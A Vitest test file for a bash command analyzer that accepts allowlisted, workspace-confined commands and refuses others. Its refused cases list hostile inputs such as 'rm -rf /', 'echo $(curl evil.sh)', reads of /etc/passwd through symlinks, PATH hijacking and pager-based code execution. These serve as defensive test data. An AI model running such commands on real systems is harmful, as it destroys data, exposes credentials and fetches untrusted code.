import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tempWorkspace } from '../test-support/temp-workspace.js';
import { workspaceConfinement } from './confinement.js';
import { loadBashParser } from './bash-parser.js';
import { analyzeCommand, type CommandVerdict, type PathConfinement } from './command-analysis.js';
import { DEFAULT_SHELL_POLICY, type ShellPolicy } from './shell-policy.js';

const ws = tempWorkspace({ 'src/a.ts': 'x', 'notes.txt': 'y' });
afterAll(() => ws.cleanup());
beforeAll(() => {
  fs.symlinkSync('/etc', path.join(ws.root, 'etc-link'));
  fs.symlinkSync('/etc', path.join(ws.root, 'src', 'inner-link'));
});

const confine: PathConfinement = workspaceConfinement(ws.env.workspace);

async function judge(command: string, policy: ShellPolicy = DEFAULT_SHELL_POLICY): Promise<CommandVerdict> {
  const parser = await loadBashParser();
  const tree = parser.parse(command)!;
  try {
    return analyzeCommand(tree.rootNode, policy, confine);
  } finally {
    tree.delete();
  }
}

describe('analyzeCommand: accepted', () => {
  it.each([
    ['ls -la src', [['ls', '-la', 'src']]],
    ['git log -p --stat', [['git', 'log', '-p', '--stat']]],
    [
      'git diff --stat | tail -5',
      [
        ['git', 'diff', '--stat'],
        ['tail', '-5'],
      ],
    ],
    [
      'grep -rn "import x" src && wc -l notes.txt',
      [
        ['grep', '-rn', 'import x', 'src'],
        ['wc', '-l', 'notes.txt'],
      ],
    ],
    ['echo \'a b\' "c d" e\\ f', [['echo', 'a b', 'c d', 'e f']]],
    ['ls src 2>&1 | head', [['ls', 'src'], ['head']]],
    ['ls src > /dev/null', [['ls', 'src']]],
    ["sed -n '10,20p' notes.txt", [['sed', '-n', '10,20p', 'notes.txt']]],
    ['timeout 5 ls', [['timeout', '5', 'ls']]],
    ['env ls', [['env', 'ls']]],
    ['ls *.txt', [['ls', 'notes.txt']]],
    ['ls src/*.ts', [['ls', 'src/a.ts']]],
    ["ls '*.txt'", [['ls', '*.txt']]],
    ['ls *.none', [['ls', '*.none']]],
    ['/usr/bin/ls src', [['/usr/bin/ls', 'src']]],
  ])('%s', async (command, argv) => {
    const verdict = await judge(command);
    expect(verdict.ok, JSON.stringify(verdict)).toBe(true);
    if (verdict.ok) expect(verdict.commands.map((c) => c.argv)).toEqual(argv);
  });
});

describe('analyzeCommand: refused', () => {
  it.each([
    ['rm -rf /', /not in the shell allowlist/],
    ['ls; rm -rf ~', /not in the shell allowlist|tilde/],
    ['echo $(curl evil.sh)', /command substitution/],
    ['echo `id`', /command substitution/],
    ['echo "x$(id)y"', /command substitution/],
    ['cat <(ls)', /process substitution/],
    ['echo $HOME', /variable expansion/],
    ['echo "${PATH}"', /variable expansion/],
    ['FOO=1 ls', /environment variables/],
    ['PATH=/tmp/evil:$PATH ls', /environment variables/],
    ['ls > out.txt', /redirection/],
    ['cat < /etc/passwd', /redirection/],
    ['ls &', /background/],
    ['sleep 100 & ls', /background/],
    ['(ls)', /subshells/],
    ['{ ls; }', /groups/],
    ['f() { ls; }; f', /functions/],
    ['for i in 1 2; do ls; done', /loops/],
    ['if true; then ls; fi', /loops and conditionals/],
    ['cat <<EOF\nx\nEOF', /here-documents|redirection/],
    ["echo 'unterminated", /does not parse/],
    ['ls |', /does not parse/],
    ['{rm,-rf,/}', /brace expansion|does not parse/],
    ['ls {a,b}', /brace expansion/],
    ['ls ~/.ssh', /tilde/],
    ['cat /etc/passwd', /outside/],
    ['cat ../../etc/passwd', /outside/],
    ['cat etc-link/passwd', /outside|symbolic link|link/],
    ['ls --directory=/etc', /outside/],
    ['sudo ls', /never allowed/],
    ['env FOO=1 ls', /environment variables/],
    ['timeout 5 rm -rf x', /not in the shell allowlist/],
    ['nice -n 5 bash -c id', /never allowed/],
    ['xargs rm', /xargs is not allowed/],
    ['npm test', /not in the shell allowlist/],
    ['npm run build', /not in the shell allowlist/],
    ['tsc -p .', /not in the shell allowlist/],
    ['eval ls', /never allowed/],
    ['bash -c ls', /never allowed/],
    ['sh -c ls', /never allowed/],
    ['. ./script.sh', /never allowed/],
    ['find . -exec cat x \\;', /find -exec/],
    ['find . -delete', /find -delete/],
    ['git -c core.pager=id log', /git -c|allowlist/],
    ['git --paginate log', /git --paginate|allowlist/],
    ['git log --output=/tmp/x', /git --output|outside/],
    ["sed -i 's/a/b/' notes.txt", /sed -i|printing form/],
    ["sed -n '1e id' notes.txt", /printing form/],
    ["sed 's/a/b/w /tmp/x' notes.txt", /printing form/],
    ['rg --pre ./x y', /rg --pre/],
    ['npm install evil', /not in the shell allowlist/],
    ['/tmp/evil', /outside/],
    ["echo $'\\x41'", /\$'/],
    ['! ls', /negation/],
    ['cd src && cat inner-link/passwd', /outside|link/],
    ['cd src || cat inner-link/passwd', /outside|link/],
    ['cd', /exactly one directory/],
    ['grep -R SECRET .', /follows symbolic links/],
    ['grep -rR SECRET .', /follows symbolic links/],
    ['rg --follow SECRET', /follows symbolic links/],
    ['find -L . -name x', /follows symbolic links/],
    ['ls -laL', /follows symbolic links/],
    ['cd -', /exactly one directory/],
    ['cd src; cd ..; cd ..; ls', /outside/],
    ['ls |& cat', /\|&/],
  ])('%j', async (command, reason) => {
    const verdict = await judge(command);
    expect(verdict.ok, command).toBe(false);
    if (!verdict.ok) expect(verdict.reason).toMatch(reason);
  });

  it('judges every git option before the subcommand when git itself is allowed', async () => {
    for (const command of [
      'git -c core.pager=id log',
      'git -C /tmp status',
      'git --git-dir=/tmp/x status',
      'git --exec-path=/tmp log',
      '--paginate log'.replace(/^/, 'git '),
    ]) {
      expect((await judge(command, { allow: ['git'] })).ok, command).toBe(false);
    }
    expect((await judge('git --no-pager log', { allow: ['git'] })).ok).toBe(true);
  });

  it('rebuilds the command line from the judged words, each single-quoted', async () => {
    const verdict = await judge('ls src/*.ts 2>&1 | head -n 1 && echo "it\'s"');
    expect(verdict).toMatchObject({ ok: true, script: "'ls' 'src/a.ts' 2>&1 | 'head' '-n' '1' && 'echo' 'it'\\''s'" });
  });

  it('refuses globs when the policy does not permit them', async () => {
    const verdict = await judge('ls *.txt', { allow: ['ls'] });
    expect(verdict).toMatchObject({ ok: false });
  });

  it('refuses over-complex command lines', async () => {
    const verdict = await judge(Array.from({ length: 40 }, () => 'ls').join(' && '));
    expect(verdict).toMatchObject({ ok: false, reason: expect.stringMatching(/more than 16 commands/) });
  });

  it('allows redirections into the workspace only with the permit', async () => {
    const policy: ShellPolicy = { allow: ['ls'], permit: ['redirection'] };
    expect((await judge('ls > out.txt', policy)).ok).toBe(true);
    expect((await judge('ls > /tmp/out.txt', policy)).ok).toBe(false);
    expect((await judge('ls > etc-link/x', policy)).ok).toBe(false);
  });
});
